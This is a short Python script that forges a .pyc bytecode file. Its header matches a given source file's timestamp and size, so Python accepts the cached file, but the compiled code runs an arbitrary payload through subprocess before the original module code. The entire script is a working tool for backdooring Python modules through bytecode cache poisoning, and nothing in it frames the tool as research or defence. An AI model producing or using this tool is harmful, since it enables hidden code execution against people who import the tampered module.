# usage: mkpyc.py SOURCE OUT.pyc PAYLOAD_PATH  -- a pyc whose header matches SOURCE but runs PAYLOAD
import sys, os, marshal, importlib.util, struct
src, out, pay = sys.argv[1], sys.argv[2], sys.argv[3]
st = os.stat(src)
body = open(src).read()
code = compile("import subprocess\nsubprocess.run([%r])\n" % pay + body, src, "exec")
with open(out, "wb") as f:
    f.write(importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(st.st_mtime) & 0xFFFFFFFF, st.st_size & 0xFFFFFFFF) + marshal.dumps(code))
